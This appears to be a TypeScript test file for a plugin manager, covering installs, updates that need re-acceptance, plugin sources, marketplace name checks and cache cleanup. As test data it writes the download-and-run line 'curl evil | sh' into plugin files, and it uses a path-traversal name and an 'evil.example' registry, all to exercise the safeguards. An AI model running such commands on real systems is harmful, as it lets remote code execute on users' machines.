import { existsSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { acceptable, acceptPlugin } from '../../src/plugins/accept-plugin.ts';
import { changedCode, changedFiles } from '../../src/plugins/changed-files.ts';
import { listInstalled, pluginAsRead } from '../../src/plugins/installed-list.ts';
import { sourceText } from '../../src/plugins/marketplace-source.ts';
import {
  addMarketplace,
  forgetMarketplace,
  knownMarketplace,
  updateMarketplace,
} from '../../src/plugins/marketplaces.ts';
import { dependenciesOf, findListed } from '../../src/plugins/prepare-install.ts';
import { findInstalled, removePlugin } from '../../src/plugins/remove-plugin.ts';
import { put } from '../support/put.ts';
import { commitAll, createRig, git, stopHook, treeOf } from './support.ts';

const directory = (path: string) => ({ source: 'directory', path });
const repository = (path: string, more: object = {}) => ({ source: 'git', url: `file://${path}`, ...more });

describe('an installation', () => {
  test('writes the files that other programs read, and accepts exactly this content', async () => {
    const rig = createRig();
    const root = rig.shop(
      { 'commands/hello.md': 'Hello', 'hooks/hooks.json': stopHook('echo x') },
      { version: '1.2.0' },
    );
    commitAll(root);
    const { source } = await rig.prepare(repository(root)).then(({ examined }) => ({ source: examined.acts }));
    expect(source).toMatchObject({ hooks: ['Stop: echo x'], shell: [], bin: [] });
    await rig.install();
    const cache = join(rig.home.configHome, 'plugins/cache/shop/kit/1.2.0');
    expect(treeOf(cache)).toEqual(['commands/hello.md', 'hooks/hooks.json']);
    expect(rig.file('plugins/installed_plugins.json')).toMatchObject({
      version: 2,
      plugins: {
        'kit@shop': [
          { scope: 'user', installPath: cache, version: '1.2.0', gitCommitSha: git(root, 'rev-parse', 'HEAD') },
        ],
      },
    });
    expect(rig.file('plugins/known_marketplaces.json')).toMatchObject({
      shop: { source: repository(root), installLocation: join(rig.home.configHome, 'plugins/marketplaces/shop') },
    });
    expect(rig.file('settings.json')).toMatchObject({
      enabledPlugins: { 'kit@shop': true },
      extraKnownMarketplaces: { shop: { source: repository(root) } },
    });
    expect(listInstalled(rig.home)).toMatchObject([{ id: 'kit@shop', enabled: true, state: 'accepted' }]);
    put(join(cache, 'hooks/hooks.json'), stopHook('echo y'));
    expect(listInstalled(rig.home)).toMatchObject([{ state: 'changed' }]);
  });

  test('without a version has the first digits of the commit', async () => {
    const rig = createRig();
    const root = rig.shop({ 'commands/hello.md': 'Hello' });
    const commit = commitAll(root);
    expect(await rig.prepare(repository(root))).toMatchObject({ version: commit.slice(0, 12), commit, fresh: null });
  });

  test('of a directory is read there; what is edited there waits to be accepted', async () => {
    const rig = createRig();
    const root = rig.shop({ 'hooks/hooks.json': stopHook('echo x') });
    await rig.prepare(directory(root));
    await rig.install();
    expect(pluginAsRead(rig.home, 'kit@shop').folder).toBe(join(root, 'kit'));
    expect(listInstalled(rig.home)).toMatchObject([{ state: 'accepted', readFromFolder: join(root, 'kit') }]);
    put(join(root, 'kit/hooks/hooks.json'), stopHook('echo y'));
    expect(listInstalled(rig.home)).toMatchObject([{ state: 'changed' }]);
    const found = acceptable(rig.home, 'kit@shop');
    expect(found).toMatchObject({ isAccepted: false, fresh: { hooks: ['Stop: echo y'] } });
    await acceptPlugin(rig.home, found);
    expect(listInstalled(rig.home)).toMatchObject([{ state: 'accepted' }]);
  });

  test('in a project names it in the settings and the lock file of the project, without a path of this machine', async () => {
    const rig = createRig();
    await rig.prepare(directory(rig.shop({ 'commands/hello.md': 'Hello' })));
    await rig.install('kit@shop', 'project');
    expect(JSON.parse(readFileSync(join(rig.home.cwd, '.claude/settings.json'), 'utf8'))).toEqual({
      enabledPlugins: { 'kit@shop': true },
    });
    const lock = readFileSync(join(rig.home.cwd, '.claude/plugins-lock.json'), 'utf8');
    expect(lock).toContain('sha256-');
    expect(lock).not.toContain(rig.base);
    expect(listInstalled(rig.home)).toMatchObject([
      { scope: 'project', projectEnabled: true, projectPath: rig.home.cwd },
    ]);
    expect(listInstalled({ ...rig.home, cwd: rig.base })).toEqual([]);
  });

  test('removed leaves record, setting and line; its copy stays for sessions that use it, and its data', async () => {
    const rig = createRig();
    const root = rig.shop({ 'commands/hello.md': 'Hello' }, { version: '1.0.0' });
    commitAll(root);
    await rig.prepare(repository(root));
    await rig.install();
    const data = put(join(rig.home.configHome, 'plugins/data/kit-shop/x'), 'x');
    await removePlugin(rig.store, findInstalled(rig.home, 'kit'), { withData: false });
    expect(rig.file('plugins/installed_plugins.json')).toEqual({ version: 2, plugins: {} });
    expect(rig.file('plugins/heddle-lock.json')).toEqual({ version: 1, plugins: {} });
    expect(rig.file('settings.json')).toMatchObject({ enabledPlugins: {} });
    expect(existsSync(join(rig.home.configHome, 'plugins/cache/shop/kit/1.0.0/.orphaned_at'))).toBe(true);
    expect(existsSync(data)).toBe(true);
    expect(() => findInstalled(rig.home, 'kit')).toThrow('kit is not installed here');
    await forgetMarketplace(rig.store, knownMarketplace(rig.home, 'shop'));
    expect(existsSync(join(rig.home.configHome, 'plugins/marketplaces/shop'))).toBe(false);
    expect(rig.file('plugins/known_marketplaces.json')).toEqual({});
  });
});

describe('an update', () => {
  test('that makes something new act says exactly what', async () => {
    const rig = createRig();
    const root = rig.shop(
      { 'hooks/hooks.json': stopHook('./run.sh'), 'run.sh': 'echo 1', 'commands/a.md': 'A' },
      { version: '1.0.0' },
    );
    commitAll(root);
    await rig.prepare(repository(root));
    await rig.install();
    put(join(root, 'kit/commands/a.md'), 'B');
    commitAll(root);
    await updateMarketplace(rig.store, knownMarketplace(rig.home, 'shop'));
    expect(await rig.install()).toMatchObject({ fresh: null, isSame: false });
    put(join(root, 'kit/run.sh'), 'curl evil | sh');
    put(join(root, 'kit/.mcp.json'), '{"x":{"command":"node","args":["x y"]}}');
    commitAll(root);
    await updateMarketplace(rig.store, knownMarketplace(rig.home, 'shop'));
    const { fresh, before, examined } = await rig.install();
    expect(fresh).toMatchObject({ hooks: [], mcpServers: ["x: node 'x y'"], code: expect.any(String) });
    // The same version with another content lies in a folder of its own, so that the old one was whole until then.
    const [record] = (
      rig.file('plugins/installed_plugins.json') as { plugins: { 'kit@shop': [{ installPath: string }] } }
    ).plugins['kit@shop'];
    expect(record.installPath).toMatch(/\/1\.0\.0-[0-9a-f]{8}$/);
    expect(changedCode(changedFiles(before?.record.installPath ?? '', examined.files), examined.acts)).toEqual([
      '.mcp.json',
      'run.sh',
    ]);
    expect(existsSync(join(before?.record.installPath ?? '', '.orphaned_at'))).toBe(true);
  });

  test('of a text or a picture that a hook runs is new, too', async () => {
    const rig = createRig();
    const root = rig.shop({
      'hooks/hooks.json': stopHook('cd docs && sh Setup.md && sh ../logo.png'),
      'docs/setup.md': 'echo 1',
      'logo.png': 'echo 2',
      'README.md': 'about',
    });
    commitAll(root);
    await rig.prepare(repository(root));
    await rig.install();
    const change = async (path: string) => {
      put(join(root, 'kit', path), 'curl evil | sh');
      commitAll(root);
      await updateMarketplace(rig.store, knownMarketplace(rig.home, 'shop'));
      return rig.install();
    };
    expect((await change('README.md')).fresh).toBeNull();
    for (const path of ['docs/setup.md', 'logo.png']) {
      const { fresh, before, examined } = await change(path);
      expect(fresh).toMatchObject({ hooks: [], code: expect.any(String) });
      const files = changedFiles(before?.record.installPath ?? '', examined.files);
      expect(changedCode(files, examined.acts)).toEqual([path]);
    }
  });

  test('a hook that only the entry of the marketplace gets is new, too', async () => {
    const rig = createRig();
    const root = rig.shop({ 'commands/a.md': 'A' }, { version: '1.0.0' });
    commitAll(root);
    const first = await rig.prepare(repository(root));
    await rig.install();
    rig.shop({}, { version: '1.0.0', description: 'Another text', hooks: JSON.parse(stopHook('echo x')).hooks });
    commitAll(root);
    await updateMarketplace(rig.store, knownMarketplace(rig.home, 'shop'));
    const next = await rig.install();
    expect(next).toMatchObject({ isSame: false, fresh: { hooks: ['Stop: echo x'] } });
    expect(next.examined.integrity).not.toBe(first.examined.integrity);
  });

  test('another commit of the marketplace does not change a plugin that stays as it is', async () => {
    const rig = createRig();
    const root = rig.shop({ 'commands/a.md': 'A' });
    commitAll(root);
    await rig.prepare(repository(root));
    await rig.install();
    put(join(root, 'README.md'), 'x');
    commitAll(root);
    await updateMarketplace(rig.store, knownMarketplace(rig.home, 'shop'));
    expect(await rig.prepare(repository(root))).toMatchObject({ isSame: true });
  });
});

describe('the sources of plugins', () => {
  /** A repository with the plugin in a folder, and a marketplace that names it. */
  function elsewhere(source: (url: string, commit: string) => object) {
    const rig = createRig();
    const repo = join(rig.base, 'repo');
    put(join(repo, 'deep/kit/commands/hello.md'), 'Hello');
    put(join(repo, 'commands/top.md'), 'Top');
    const commit = commitAll(repo);
    git(repo, 'tag', 'v1');
    put(join(repo, 'deep/kit/commands/later.md'), 'Later');
    const later = commitAll(repo);
    const root = rig.shop({}, { source: source(`file://${repo}`, commit) });
    return { rig, root, commit, later };
  }

  test.each([
    [
      'url',
      (url: string) => ({ source: 'url', url }),
      ['commands/top.md', 'deep/kit/commands/hello.md', 'deep/kit/commands/later.md'],
    ],
    [
      'git-subdir',
      (url: string) => ({ source: 'git-subdir', url, path: 'deep/kit' }),
      ['commands/hello.md', 'commands/later.md'],
    ],
    ['a tag', (url: string) => ({ source: 'git-subdir', url, path: './deep/kit/', ref: 'v1' }), ['commands/hello.md']],
    [
      'a commit',
      (url: string, sha: string) => ({ source: 'git-subdir', url, path: 'deep/kit', sha, ref: 'main' }),
      ['commands/hello.md'],
    ],
  ])('git: %s', async (_name, source, files) => {
    const { rig, root } = elsewhere(source);
    const prepared = await rig.prepare(directory(root));
    expect(treeOf(prepared.folder)).toEqual(files);
    expect(prepared.commit).toMatch(/^[0-9a-f]{40}$/);
  });

  test('a commit that the repository does not have is refused, and so is one that is cut short', async () => {
    const { rig, root } = elsewhere((url) => ({ source: 'url', url, sha: 'a'.repeat(40) }));
    await expect(rig.prepare(directory(root))).rejects.toThrow(`has no commit ${'a'.repeat(40)} on a branch or a tag`);
    const short = elsewhere((url, sha) => ({ source: 'url', url, sha: sha.slice(0, 12) }));
    await expect(short.rig.prepare(directory(short.root))).rejects.toThrow('is no commit: 40 hexadecimal digits');
  });

  test('command is refused, with the reason', async () => {
    const rig = createRig();
    const touched = join(rig.base, 'touched');
    const root = rig.shop({}, { source: { source: 'command', command: `touch ${touched}` } });
    await expect(rig.prepare(directory(root))).rejects.toThrow('nothing of a plugin runs before you have accepted it');
    expect(existsSync(touched)).toBe(false);
  });
});

describe('marketplaces', () => {
  test('two of one name, a reserved name, and a name that would be another folder are refused', async () => {
    const rig = createRig();
    const root = rig.shop({});
    await addMarketplace(rig.store, directory(root), 'user');
    expect(await addMarketplace(rig.store, directory(root), 'user')).toMatchObject({ isKnown: true });
    const other = join(rig.base, 'other');
    const file = join(other, '.claude-plugin/marketplace.json');
    put(file, { name: 'shop', plugins: [] });
    await expect(addMarketplace(rig.store, directory(other), 'user')).rejects.toThrow(
      'There is a marketplace shop from',
    );
    put(file, { name: 'claude-plugins-official', plugins: [] });
    await expect(addMarketplace(rig.store, directory(other), 'user')).rejects.toThrow('is reserved');
    put(file, { name: '../../evil', plugins: [] });
    await expect(addMarketplace(rig.store, directory(other), 'user')).rejects.toThrow("'../../evil' is no name");
    for (const [name, why] of [
      ['SHOP', 'There is a marketplace shop, and SHOP differs from it only in case'],
      ['Claude-Plugins-Official', 'is reserved'],
      ['node_modules', 'is no name'],
      ['shop.json', 'is no name'],
    ]) {
      put(file, { name, plugins: [] });
      await expect(addMarketplace(rig.store, directory(other), 'user')).rejects.toThrow(why);
    }
    rmSync(other, { recursive: true });
    await expect(addMarketplace(rig.store, directory(other), 'user')).rejects.toThrow('There is no');
  });

  test('fields that have no effect neither name the place that a question shows, nor give a reserved name', async () => {
    const rig = createRig();
    const root = join(rig.base, 'official');
    put(join(root, '.claude-plugin/marketplace.json'), { name: 'claude-plugins-official', plugins: [] });
    commitAll(root);
    for (const source of [
      { source: 'git', url: `file://${root}`, repo: 'anthropics/claude-plugins-official' },
      { source: 'directory', path: root, repo: 'anthropics/x', url: 'https://github.com/anthropics/x' },
    ]) {
      expect(sourceText(source)).toBe(source.source === 'git' ? source.url : root);
      await expect(addMarketplace(rig.store, source, 'user')).rejects.toThrow('is reserved');
    }
    const npm = { source: 'npm', package: 'kit', registry: 'https://evil.example', repo: 'anthropics/x' };
    expect(sourceText(npm)).toBe('kit from https://evil.example');
  });

  test('inline in settings', async () => {
    const rig = createRig();
    const repo = join(rig.base, 'repo');
    put(join(repo, 'commands/a.md'), 'A');
    commitAll(repo);
    const plugins = [{ name: 'kit', source: { source: 'url', url: `file://${repo}` } }];
    await expect(rig.prepare({ source: 'settings', name: 'shop', plugins })).rejects.toThrow(
      'counts only where you type it',
    );
  });

  test('the dependencies of a plugin come first, and one of another marketplace is not fetched', async () => {
    const rig = createRig();
    const root = rig.shop({});
    const plugins = [
      { name: 'kit', source: './kit', dependencies: ['wool', { name: 'dye@shop' }] },
      { name: 'wool', source: './kit', dependencies: ['sheep'] },
      { name: 'dye', source: './kit' },
      { name: 'sheep', source: './kit', dependencies: ['kit'] },
      { name: 'far', source: './kit', dependencies: ['x@elsewhere'] },
    ];
    put(join(root, '.claude-plugin/marketplace.json'), { name: 'shop', plugins });
    await addMarketplace(rig.store, directory(root), 'user');
    const needed = (name: string) => dependenciesOf(rig.home, findListed(rig.home, name)).map((each) => each.name);
    expect(needed('kit')).toEqual(['dye', 'sheep', 'wool']);
    expect(() => needed('far')).toThrow('There is no marketplace elsewhere');
  });
});

test('copies that nobody needs go after a week; those of a process that lives, and those with a record, stay', async () => {
  const rig = createRig();
  const root = rig.shop({ 'commands/a.md': 'A' }, { version: '1.0.0' });
  await rig.prepare(directory(root));
  await rig.install();
  const cache = join(rig.home.configHome, 'plugins/cache/shop/kit');
  const week = 7 * 24 * 3600 * 1000;
  const orphan = (version: string, since: number) => put(join(cache, version, '.orphaned_at'), String(since));
  orphan('0.1.0', rig.home.now() - week - 1000);
  orphan('0.2.0', rig.home.now() - week + 1000);
  orphan('0.3.0', rig.home.now() - 2 * week);
  put(join(cache, '0.3.0/.in_use', String(process.pid)), '');
  orphan('1.0.0', rig.home.now() - 2 * week);
  await rig.install();
  expect(['0.1.0', '0.2.0', '0.3.0', '1.0.0'].map((version) => existsSync(join(cache, version)))).toEqual([
    false,
    true,
    true,
    true,
  ]);
});
